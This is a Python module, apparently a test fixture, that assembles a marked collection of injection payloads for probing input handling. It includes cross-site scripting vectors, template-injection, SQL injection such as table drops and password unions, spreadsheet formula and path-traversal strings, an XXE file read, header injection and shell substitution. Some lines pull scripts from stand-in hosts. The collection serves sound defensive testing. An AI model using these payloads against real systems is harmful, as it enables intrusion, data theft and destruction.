"""Texts that try to become something else than text, put together from parts; each carries a mark of its own.

`{mark}` stands for the mark, which is written where the payload would become an element, an attribute or a script.
"""

from __future__ import annotations

import unicodedata
from itertools import product

MARK = "zq"
CALL = "alert('{mark}')"
ACTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
BREAKS = (
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</td></tr></table>",
    '\\">',
    "&quot;>",
    "`>",
)
ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/{mark}>{call}</script>",
    "<script src=//{mark}.invalid/a.js></script>",
    "<img src=x onerror={call}>",
    "<img/src/onerror={call}//",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<form action=javascript:{call}><button>{mark}</button></form>",
    "<a href=javascript:{call}>{mark}</a>",
    "<a href='&#106;avascript:{call}'>{mark}</a>",
    "<math><mi xlink:href=javascript:{call}>{mark}</mi></math>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//{mark}.invalid/>",
    "<link rel=stylesheet href=//{mark}.invalid/a.css>",
    "<style>@import '//{mark}.invalid';*{{background:url(//{mark}.invalid)}}</style>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<dialog open>{mark}</dialog>",
    "<b id={mark}>{mark}</b>",
    "<!--{mark}",
    "<![CDATA[{mark}]]><script>{call}</script>",
    "<?xml version='1.0'?><{mark}/>",
    "<!DOCTYPE x [<!ENTITY {mark} SYSTEM 'file:///etc/hostname'>]>&{mark};",
)
TEMPLATES = (
    "{{{{7*7}}}}{mark}",
    "${{7*7}}{mark}",
    "#{{7*7}}{mark}",
    "{{%% debug %%}}{mark}",
    "{{%% load {mark} %%}}",
    "{{{{ request.user.password }}}}{mark}",
    "{{{{ settings.SECRET_KEY }}}}{mark}",
    "{{{{ ''.__class__.__mro__ }}}}{mark}",
    "<%%= 7*7 %%>{mark}",
    "{{0.__class__}}{mark}",
    "%%(user)s{mark}",
    "%%s%%n%%x{mark}",
    "{{mark}}{mark}",
    "$(id){mark}",
    "`id`{mark}",
    "|| id; {mark}",
)
QUERIES = (
    "' OR '1'='1' -- {mark}",
    "'; DROP TABLE org_user; -- {mark}",
    '" OR ""="{mark}',
    "1) UNION SELECT password FROM org_user -- {mark}",
    "' || pg_sleep(9) || '{mark}",
    "\\' OR 1=1 #{mark}",
    "%%' AND 1=1 AND '%%'='{mark}",
    "_%%_%%{mark}",
    "{mark}*",
    'NEAR("{mark}")',
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//{mark}.invalid","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=IMPORTXML("//{mark}.invalid","//a")',
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/hosts",
    "%2e%2e%2f{mark}",
    "C:\\{mark}.exe",
    "{mark}.jpg.exe",
    "\\\\{mark}.invalid\\share",
    "....//....//{mark}",
    "~root/{mark}",
)
ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    "vbscript:{mark}",
    "//{mark}.invalid",
    "https:{mark}.invalid",
    "\\\\{mark}.invalid",
)
JSONS = (
    "</script><script>{call}</script>",
    "\\u003cscript\\u003e{call}",
    '{{"__proto__":{{"x":"{mark}"}}}}',
    '\\"}};{call};//',
    "\u2028{call}\u2029",
    "']}});{call}//",
    "<!--<script>{call}",
    "\\x3cscript>{call}",
)
STYLES = (
    "expression({call})",
    "}}body{{display:none}}/*{mark}*/",
    "background:url(javascript:{call})",
    "</style><b>{mark}",
)
HEADERS = ("a\r\nSet-Cookie: {mark}=1", "a\nLocation: //{mark}.invalid", "%0d%0aX-{mark}: 1")
TRICKS = (
    "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>",
    "<scr\u200bipt>{call}</scr\u200bipt>",
    "<\u0131mg src=x onerror={call}>",
    "ſcript {mark}",
    "<img src=x\u00a0onerror={call}>",
    "\ufeff<script>{call}</script>",
    "Đ\u0301\u0323o\u0302\u0300n <b>{mark}</b>",
    "\u0000<script>{call}</script>",
    "\u0008\u001b[31m{mark}",
    "e" + "\u0301" * 60 + "{mark}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}",
    "&amp;lt;b&amp;gt;{mark}",
    "+ADw-script+AD4-{call}",
    "%3Cscript%3E{call}%3C/script%3E",
    "%253Cscript%253E{mark}",
    "\U0001f600<b>{mark}</b>",
)


def _parts() -> list[str]:
    called = [one.replace("{call}", CALL) for one in (*ELEMENTS, *ADDRESSES, *JSONS, *STYLES, *TRICKS)]
    broken = [f"{how}<img src={{mark}} onerror={CALL}>" for how in BREAKS]
    acts = [f"{quote} {act}={CALL} x={quote}{{mark}}" for quote, act in product(('"', "'", ""), ACTS)]
    inside = [f"{how}{one.replace('{call}', CALL)}" for how, one in product(BREAKS[:6], ELEMENTS[:8])]
    marked = [unicodedata.normalize(form, "Đồn Tân Thanh ") + "<b>{mark}</b>" for form in ("NFD", "NFKD")]
    plain = [*TEMPLATES, *QUERIES, *FORMULAS, *PATHS, *HEADERS]
    return [*called, *broken, *acts, *inside, *marked, *(one.replace("%%", "%") for one in plain)]


def mark(number: int) -> str:
    """Return the mark of a payload: a word of letters, so that it could be an element or an attribute."""
    return MARK + "".join(chr(ord("a") + int(digit)) for digit in f"{number:03}")


def _made() -> tuple[str, ...]:
    return tuple(_marked(part, mark(number)) for number, part in enumerate(_parts()))


def _marked(part: str, word: str) -> str:
    return part.replace("{mark}", word).replace("{{", "{").replace("}}", "}") if "{mark}" in part else part


PAYLOADS = _made()
"""Every payload, each once; those of more than two hundred that carry a mark carry it once or more."""
